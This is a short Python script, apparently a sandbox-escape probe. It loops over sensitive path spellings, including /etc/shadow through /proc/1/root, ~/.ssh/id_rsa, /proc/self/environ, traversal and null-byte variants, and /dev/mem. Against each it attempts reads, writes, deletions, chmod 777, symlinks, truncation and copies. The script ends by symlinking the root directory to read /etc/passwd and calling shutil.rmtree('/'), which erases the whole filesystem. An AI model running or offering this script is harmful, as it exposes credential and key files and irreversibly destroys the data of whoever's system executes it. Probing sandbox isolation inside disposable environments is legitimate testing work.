# Reads, writes and destroys by every spelling of a path.
import os, shutil, pathlib, glob, tempfile, io
for path in ("/etc/passwd", "../../../../etc/passwd", "/proc/self/environ", "/proc/self/mem", "/proc/1/root/etc/shadow", "/dev/mem", "/dev/stdin", "~/.ssh/id_rsa", "/work/../etc/passwd",
             "//etc//passwd", "/etc/passwd\0.txt", "file:///etc/passwd", b"/etc/passwd", 0, 1, 3, 10, -1, "/sys/kernel/debug", "a" * 5000, "/proc/self/fd/3", "."):
    for f in (lambda: open(path).read(), lambda: open(path, "w").write("x"), lambda: io.open(path, "rb", buffering=0), lambda: os.open(path, os.O_RDWR | os.O_CREAT),
              lambda: pathlib.Path(path).expanduser().read_text(), lambda: os.listdir(path), lambda: os.stat(path), lambda: os.remove(path), lambda: shutil.rmtree(path),
              lambda: os.symlink("/etc/passwd", path), lambda: os.link("/etc/passwd", path), lambda: os.chmod(path, 0o777), lambda: os.chdir(path), lambda: os.readlink(path),
              lambda: glob.glob(path + "/**", recursive=True), lambda: os.rename(path, "/tmp/x"), lambda: os.truncate(path, 0), lambda: shutil.copy(path, "/tmp"), lambda: os.mkfifo(path)):
        try:
            f()
        except Exception as e:
            print(type(e).__name__, str(e)[:60])
try:
    os.symlink("/", "root")
    print(open("root/etc/passwd").read())
except OSError as e:
    print(e)
with tempfile.TemporaryDirectory() as d:
    print(os.listdir(d))
shutil.rmtree("/", ignore_errors=True)
